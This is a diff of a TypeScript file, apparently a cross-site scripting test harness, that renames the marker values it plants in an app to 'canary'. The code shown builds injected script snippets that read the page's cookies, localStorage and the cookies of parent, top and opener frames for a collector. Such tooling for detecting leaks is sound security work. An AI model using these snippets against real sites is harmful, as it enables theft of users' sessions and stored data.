@@ -2,7 +2,7 @@
 import type { Target } from "./payload.ts";
 
 /** Planted in the app's origin; whoever hears the second part has read the first. */
-export const planted = {
+export const canary = {
   cookie: { name: "plinth_theme_seed", value: "kept-cookie-5f3a9c" },
   storage: { name: "plinth-kept", value: "kept-storage-81d27e" },
 } as const;
@@ -42,9 +42,9 @@ const tellFunction = (name: string): string =>
 function strikeOf({ name, collector, app, victim }: Aim): string {
   const tries = [
     `cookie:function(){return document.cookie}`,
-    `storage:function(){return localStorage.getItem('${planted.storage.name}')}`,
+    `storage:function(){return localStorage.getItem('${canary.storage.name}')}`,
     `parent:function(){return parent.document.cookie}`,
-    `top:function(){return top.localStorage.getItem('${planted.storage.name}')}`,
+    `top:function(){return top.localStorage.getItem('${canary.storage.name}')}`,
     `opener:function(){return opener.document.cookie}`,
   ];
   return [
